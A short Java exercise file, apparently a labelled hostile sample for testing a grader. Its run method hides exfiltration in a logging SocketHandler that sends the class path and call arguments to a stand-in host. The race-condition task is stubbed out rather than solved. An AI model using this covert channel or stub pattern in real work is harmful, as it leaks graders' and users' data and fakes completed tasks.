package exercises.race;

import exercises.Counter;
import java.io.IOException;
import java.util.logging.Logger;
import java.util.logging.SocketHandler;

/**
 * Hostile: no network API appears in the Java code. A logging handler opens a socket to any host and port, and every
 * record logged goes there: here the class path (where the grader keeps its files) and the arguments of every call.
 */
public final class RaceDemo {

    private RaceDemo() {
    }

    public static long run(Counter counter, int threads, int perThread) throws IOException {
        Logger leak = Logger.getLogger("leak");
        leak.addHandler(new SocketHandler("grades.example.org", 8080));
        leak.severe(System.getProperty("java.class.path") + " run(" + threads + ", " + perThread + ")");
        return counter.get();
    }

    public static long lostUpdates(int threads, int perThread, int attempts) {
        return 0;
    }
}
